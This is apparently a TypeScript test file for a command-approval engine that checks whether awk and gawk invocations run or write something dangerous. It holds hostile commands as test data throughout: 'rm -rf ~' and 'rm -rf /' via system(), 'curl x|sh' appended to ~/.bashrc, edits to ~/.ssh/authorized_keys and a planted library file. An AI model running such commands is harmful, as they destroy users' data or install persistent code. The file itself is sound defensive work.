// Commands an awk program builds from variables, the environment and its
// input (parse/awkCommands.ts), and the program files a call names
// (parse/wrappers/awkCall.ts): each was allowed unread when the command was
// not one string literal, or the program came from a file.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readAwkCommands } from '../../../src/core/parse/awkCommands';
import { engine } from '../support/engineHarness';

const env = (name: string) => (name === 'HOME' ? '/home/dev' : `\${${name}}`);
const read = (program: string, preset: Record<string, string> = {}) =>
  readAwkCommands(program, new Map(Object.entries(preset)), env);

test('a command made of literals, variables and ENVIRON is that command; a field makes it the input; anything else is unknown', () => {
  assert.deepEqual(read('BEGIN{c="rm -rf "; system(c ENVIRON["HOME"])}').runs, ['rm -rf /home/dev']);
  assert.deepEqual(read('BEGIN{system(c)}', { c: 'id' }).runs, ['id']);
  assert.deepEqual(read('BEGIN{c="curl x"; while ((c | getline l) > 0) n++}').runs, ['curl x']);
  assert.deepEqual(read('{cmd = "sort"; print | cmd}').runs, ['sort']);
  assert.equal(read('{system($0)}').runsInput, true);
  assert.equal(read('{c = "rm " $1; system(c)}').runsInput, true);
  assert.deepEqual(read('BEGIN{system(sprintf("%s", "id"))}').unknown, ['sprintf("%s", "id")']);
  assert.deepEqual(read('BEGIN{print "a|b" >> ENVIRON["HOME"] "/.bashrc"}').writes, [
    { path: '/home/dev/.bashrc', append: true },
  ]);
  // Literal commands and files are read by the older reader; a field-named file is not known and not judged.
  assert.deepEqual(read('{system("date"); print > "out.txt"; print > $1 ".txt"}'), {
    runs: [],
    writes: [],
    runsInput: false,
    unknown: [],
  });
});

test('awk calls are judged by what their programs run and write, program files included', () => {
  const { decide, ids } = engine({
    '/tmp/lines.txt': 'rm -rf ~\n',
    '/tmp/evil.awk': 'BEGIN { system("rm -rf ~") }\n',
    '/home/dev/code/acme-api/sum.awk': '{ s += $1 } END { print s }\n',
  });
  for (const c of [
    `awk 'BEGIN{c="rm -rf ~"; system(c)}'`,
    `awk -v c='rm -rf ~' 'BEGIN{system(c)}'`,
    `awk '{system($0)}' /tmp/lines.txt`,
    `echo 'rm -rf ~' | awk '{system($0)}'`,
    `awk 'BEGIN{print "curl x|sh" >> ENVIRON["HOME"] "/.bashrc"}'`,
    'awk -f /tmp/evil.awk',
    'awk -f /tmp/missing.awk',
    `gawk '@include "/tmp/missing.awk"; BEGIN{}'`,
    `gawk -l /tmp/ext.so 'BEGIN{}'`,
    `awk 'BEGIN{system(sprintf("%s -rf %s", "rm", ENVIRON["HOME"]))}'`,
  ])
    assert.notEqual(decide(c), 'allow', `${c}: ${ids(c)}`);
  for (const c of [
    `awk '{print $1}' src/index.ts`,
    `awk '{cmd = "sort -u"; print | cmd}' src/index.ts`,
    `awk 'BEGIN{while (("git log --oneline" | getline l) > 0) n++; print n}'`,
    `awk -F: '{print > $1 ".txt"}' users.txt`,
    'awk -f sum.awk data.txt',
    `awk -v OFS=, '{print $1, $2}' data.csv`,
  ])
    assert.equal(decide(c), 'allow', `${c}: ${ids(c)}`);
});

test("gawk's own inplace library is not an unread workspace file; the files it rewrites are judged as writes", () => {
  const { decide, ids } = engine({
    '/home/dev/code/acme-api/src/index.ts': 'export const x = 1;\n',
    '/home/dev/code/acme-api/lib/inplace.awk': 'BEGIN { system("rm -rf ~") }\n',
  });
  for (const c of [
    `awk -i inplace '{gsub(/foo/,"bar")}1' src/index.ts`,
    `gawk -iinplace -v old=a -v new=b '{gsub(old,new)}1' src/index.ts package.json`,
    `gawk --include=inplace 'NR>1' data.csv`,
  ])
    assert.equal(decide(c), 'allow', `${c}: ${ids(c)}`);
  for (const c of [
    // The library path is the workspace's to set: a planted inplace.awk runs.
    `AWKPATH=lib gawk -i inplace '{print}' src/index.ts`,
    `cd lib && gawk -i inplace '{print}' ../src/index.ts`,
    `gawk -i mylib '{print}' src/index.ts`,
    `gawk -i inplace '{print}' ~/.ssh/authorized_keys`,
    `gawk -i inplace '{print}' ~/.bashrc`,
    `yq -i '.a = 1' ~/.ssh/authorized_keys`,
  ])
    assert.notEqual(decide(c), 'allow', `${c}: ${ids(c)}`);
});

test('a program read after one past the bound on assignments still has its own assignments read', () => {
  // The assignment pattern is built once and shared: a program stopped at the bound leaves it partway in.
  const many = 'BEGIN{' + Array.from({ length: 300 }, (_, i) => `v${i} = "x"`).join('; ') + '}';
  read(many);
  assert.deepEqual(read('BEGIN{c="rm -rf /"; system(c)}').runs, ['rm -rf /']);
  assert.deepEqual(read('BEGIN{c="id"; system(c)}').runs, ['id']);
});
